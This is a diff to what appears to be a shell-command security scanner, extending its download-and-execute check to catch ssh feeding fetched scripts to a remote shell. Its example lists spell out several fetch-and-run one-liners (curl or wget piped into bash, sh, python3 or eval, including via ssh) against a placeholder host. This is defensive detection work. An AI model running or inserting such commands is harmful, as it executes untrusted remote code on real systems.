@@ -2619,11 +2619,12 @@ var COMMAND_CHECKS = [
     category: "download-execute",
     description: "downloads code and runs it",
     confidence: "high",
-    programs: [...INTERPRETERS, "eval", "exec"],
+    // ssh: what it reads on standard input goes to its remote command (`ssh host bash -s < <(curl …)`).
+    programs: [...INTERPRETERS, "eval", "exec", "ssh"],
     match(inv) {
       const runsArgument = SHELLS.includes(inv.name) || PYTHONS.includes(inv.name) || SCRIPTERS.includes(inv.name) || ["eval", "source", ".", "exec"].includes(inv.name);
-      if (!runsArgument) return void 0;
-      for (const w of inv.args) {
+      if (!runsArgument && inv.name !== "ssh") return void 0;
+      if (runsArgument) for (const w of inv.args) {
         for (const sub of w.subs) {
           for (const c of allCommands(sub)) {
             const d = invocationOf(c);
@@ -2645,6 +2646,8 @@ var COMMAND_CHECKS = [
     examples: {
       bad: [
         "bash <(curl -fsSL https://x.example/i.sh)",
+        "ssh deploy@web bash -s < <(curl -fsSL https://x.example/i.sh)",
+        `ssh web 'sudo sh' <<< "$(curl -fsSL https://x.example/i.sh)"`,
         'python3 -c "$(curl -fsSL https://x.example/get.py)"',
         'eval "$(curl -s https://x.example/env)"',
         'sh -c "$(wget -qO- https://x.example/i.sh)"',
@@ -2655,7 +2658,7 @@ var COMMAND_CHECKS = [
         "bash -s -- --yes < <(wget -qO- https://x.example/i.sh)",
         'sh <<< "$(curl -fsSL https://x.example/i.sh)"'
       ],
-      good: ['VERSION="$(curl -s https://api.example.com/latest)"', 'echo "$(curl -s https://api.example.com/status)"', "diff <(curl -s https://x.example/a) b.txt", 'eval "$(ssh-agent -s)"', 'eval "$(brew shellenv)"', "python3 parse.py < <(curl -s https://api.example.com/v1)", 'jq . <<< "$(curl -s https://api.example.com/v1)"']
+      good: ['VERSION="$(curl -s https://api.example.com/latest)"', 'echo "$(curl -s https://api.example.com/status)"', "diff <(curl -s https://x.example/a) b.txt", 'eval "$(ssh-agent -s)"', 'eval "$(brew shellenv)"', "python3 parse.py < <(curl -s https://api.example.com/v1)", 'jq . <<< "$(curl -s https://api.example.com/v1)"', "ssh host 'cat > /tmp/x' < <(curl -s https://api.example.com/x)", 'ssh host "echo $(curl -s https://api.example.com/v1)"']
     }
   },
   {
@@ -4858,7 +4861,7 @@ function rescanHandedCode(text, dialect, inv, cmd, depth, out, budget, place, in
       scanRegion(value, innerDialect, 0, value.length, depth + 1, out, budget, place ?? [w.pos, w.end]);
     }
   }
-  if (!SHELLS2.has(inv.name) || !runsItsInput(inv)) return;
+  if (!(SHELLS2.has(inv.name) && runsItsInput(inv)) && !(inv.name === "ssh" && runsStdin(inv))) return;
   const first = cmd.pipeline[0];
   const sources = [cmd, ...first && first !== cmd && invocation(first)?.name === "cat" ? [first] : []];
   for (const source of sources) {
